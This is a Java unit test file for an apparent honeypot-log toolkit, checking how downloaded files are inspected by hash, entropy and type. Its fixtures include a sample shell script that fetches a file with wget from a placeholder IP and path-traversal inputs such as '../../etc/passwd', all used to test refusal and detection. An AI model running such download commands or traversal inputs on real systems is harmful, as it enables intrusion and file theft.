package io.github.cowriekit.parser;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;
import static org.junit.jupiter.api.Assumptions.assumeFalse;

import io.github.cowriekit.model.Artefact;
import io.github.cowriekit.model.Artefact.Status;
import io.github.cowriekit.model.Download;
import io.github.cowriekit.model.FileOrigin;
import io.github.cowriekit.model.FileType;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.SessionEnd;
import io.github.cowriekit.model.Upload;
import io.github.cowriekit.parser.tty.TtyBytes;
import java.io.IOException;
import java.nio.channels.FileChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ArtefactsTest {
    private static final byte[] SCRIPT = TtyBytes.bytes("#!/bin/sh\nwget http://203.0.113.5/x\n");
    private static final String SCRIPT_HASH = TtyBytes.sha256(SCRIPT);

    @TempDir
    private Path outside;

    private Path folder = Path.of("");
    private Artefacts artefacts = Artefacts.in(folder);

    @BeforeEach
    void makeFolder() throws IOException {
        folder = Files.createDirectory(outside.resolve("downloads"));
        artefacts = Artefacts.in(folder);
    }

    private String store(byte[] content) throws IOException {
        String hash = TtyBytes.sha256(content);
        Files.write(folder.resolve(hash), content);
        return hash;
    }

    private static void assertAbsent(Artefact artefact, Status status, String reason) {
        assertThat(artefact.status()).isEqualTo(status);
        assertThat(artefact.reason()).contains(reason);
        assertThat(artefact.size()).isNull();
        assertThat(artefact.actualSha256()).isNull();
        assertThat(artefact.type()).isNull();
        assertThat(artefact.entropy()).isNull();
    }

    @Test
    void saysWhatAFileIs() throws IOException {
        Artefact artefact = artefacts.inspect(store(SCRIPT));

        assertThat(artefact.sha256()).isEqualTo(artefact.actualSha256()).isEqualTo(SCRIPT_HASH);
        assertThat(artefact.status()).isEqualTo(Status.INTACT);
        assertThat(artefact.reason()).isNull();
        assertThat(artefact.size()).isEqualTo(SCRIPT.length);
        assertThat(artefact.type()).extracting(FileType::kind).isEqualTo(FileType.Kind.SHELL_SCRIPT);
        assertThat(artefacts.find(SCRIPT_HASH))
                .contains(folder.resolve(SCRIPT_HASH).toRealPath());
    }

    @Test
    void measuresEntropy() throws IOException {
        byte[] all = new byte[256 * 300];
        byte[] two = new byte[200_000];
        for (int i = 0; i < all.length; i++) {
            all[i] = (byte) i;
        }
        Arrays.fill(two, 0, 100_000, (byte) 'x');

        assertThat(artefacts.inspect(store(all)).entropy()).isCloseTo(8, within(1e-9));
        assertThat(artefacts.inspect(store(two)).entropy()).isCloseTo(1, within(1e-9));
        assertThat(artefacts.inspect(store(new byte[10])).entropy()).isEqualTo(0.0);
        assertThat(artefacts.inspect(store(TtyBytes.bytes("aaab"))).entropy()).isCloseTo(0.8112781245, within(1e-9));
    }

    @Test
    void knowsNoEntropyOfAnEmptyFile() throws IOException {
        Artefact artefact = artefacts.inspect(store(new byte[0]));

        assertThat(artefact.status()).isEqualTo(Status.INTACT);
        assertThat(artefact.size()).isZero();
        assertThat(artefact.entropy()).isNull();
        assertThat(artefact.type()).extracting(FileType::kind).isEqualTo(FileType.Kind.EMPTY);
    }

    @Test
    void saysWhenTheContentIsNotWhatTheNameSays() throws IOException {
        byte[] cut = Arrays.copyOf(SCRIPT, 20);
        Files.write(folder.resolve(SCRIPT_HASH), cut);

        Artefact artefact = artefacts.inspect(SCRIPT_HASH);

        assertThat(artefact.status()).isEqualTo(Status.ALTERED);
        assertThat(artefact.reason()).isEqualTo("the content has the hash " + TtyBytes.sha256(cut));
        assertThat(artefact.size()).isEqualTo(20);
        assertThat(artefact.type()).extracting(FileType::kind).isEqualTo(FileType.Kind.SHELL_SCRIPT);
    }

    @Test
    void saysWhatIsMissing() {
        assertAbsent(artefacts.inspect(SCRIPT_HASH), Status.MISSING, "not in the folder");
        assertAbsent(Artefacts.in(outside.resolve("no")).inspect(SCRIPT_HASH), Status.MISSING, "not in the folder");
        assertThat(artefacts.find(SCRIPT_HASH)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                ".",
                "..",
                "../secret",
                "/etc/passwd",
                "secret",
                "sub/0000000000000000000000000000000000000000000000000000000000000000",
                "0000000000000000000000000000000000000000000000000000000000000000\n",
                "000000000000000000000000000000000000000000000000000000000000000G",
                "ABCDEFABCDEFABCDEFABCDEFABCDEFABCDEFABCDEFABCDEFABCDEFABCDEFABCD",
                "http___203.0.113.5_x"
            })
    void refusesWhatIsNoHash(String name) throws IOException {
        Files.writeString(folder.resolve("secret"), "x");
        Files.writeString(outside.resolve("secret"), "x");

        assertAbsent(artefacts.inspect(name), Status.REFUSED, "not a SHA-256");
        assertThat(artefacts.find(name)).isEmpty();
    }

    @Test
    void refusesLinksOutOfTheFolderAndFolders() throws IOException {
        Path target = Files.write(outside.resolve("target"), SCRIPT);
        Files.createSymbolicLink(folder.resolve(SCRIPT_HASH), target);
        assertAbsent(artefacts.inspect(SCRIPT_HASH), Status.REFUSED, "leads out of the folder");

        Files.delete(folder.resolve(SCRIPT_HASH));
        Files.createDirectory(folder.resolve(SCRIPT_HASH));
        assertAbsent(artefacts.inspect(SCRIPT_HASH), Status.REFUSED, "not a regular file");
        assertThat(artefacts.find(SCRIPT_HASH)).isEmpty();
    }

    @Test
    @Timeout(10)
    void doesNotWaitForAPipe() throws IOException, InterruptedException {
        Process mkfifo =
                new ProcessBuilder("mkfifo", folder.resolve(SCRIPT_HASH).toString()).start();
        assumeFalse(mkfifo.waitFor() != 0, "no mkfifo on this machine");

        assertAbsent(artefacts.inspect(SCRIPT_HASH), Status.REFUSED, "not a regular file");
    }

    @Test
    void saysWhatCannotBeRead() throws IOException {
        Path file = Files.write(folder.resolve(SCRIPT_HASH), SCRIPT);
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("---------"));
        assumeFalse(Files.isReadable(file), "this user reads everything: no unreadable file to try");

        assertAbsent(artefacts.inspect(SCRIPT_HASH), Status.UNREADABLE, "cannot be read");
    }

    @Test
    void saysWhatBecameOfTheFilesOfASession() throws IOException {
        String stored = store(SCRIPT);
        String gone = "0".repeat(64);
        String hostile = "../../etc/passwd";
        Session session = Session.builder("a1b2c3d4e5f6", SessionEnd.CLOSED)
                .downloads(List.of(
                        Download.builder(FileOrigin.URL).sha256(stored).build(),
                        Download.builder(FileOrigin.URL).failed(true).build(),
                        Download.builder(FileOrigin.URL).sha256(stored).build(),
                        Download.builder(FileOrigin.URL).sha256(hostile).build()))
                .uploads(List.of(
                        Upload.builder(FileOrigin.SFTP).sha256(gone).build(),
                        Upload.builder(FileOrigin.SFTP).sha256(stored).build()))
                .build();

        assertThat(artefacts.of(session))
                .extracting(Artefact::sha256, Artefact::status)
                .containsExactly(
                        org.assertj.core.api.Assertions.tuple(stored, Status.INTACT),
                        org.assertj.core.api.Assertions.tuple(hostile, Status.REFUSED),
                        org.assertj.core.api.Assertions.tuple(gone, Status.MISSING));
    }

    @Test
    @Tag("slow")
    void readsALargeFile() throws IOException {
        Path file = folder.resolve(SCRIPT_HASH);
        long size = (64L << 20) + 5;
        try (FileChannel channel = FileChannel.open(
                file, StandardOpenOption.CREATE, StandardOpenOption.WRITE, StandardOpenOption.SPARSE)) {
            channel.write(java.nio.ByteBuffer.wrap(new byte[] {1}), size - 1);
        }

        Artefact artefact = artefacts.inspect(SCRIPT_HASH);

        assertThat(artefact.size()).isEqualTo(size);
        assertThat(artefact.status()).isEqualTo(Status.ALTERED);
        assertThat(artefact.entropy()).isBetween(0.0, 1e-5);
    }

    @Test
    void liesBesideTheLogs() throws IOException {
        String hash = store(SCRIPT);

        assertThat(Artefacts.beside(outside))
                .map(found -> found.inspect(hash).status())
                .contains(Status.INTACT);
        assertThat(Artefacts.beside(folder)).isEmpty();
    }
}
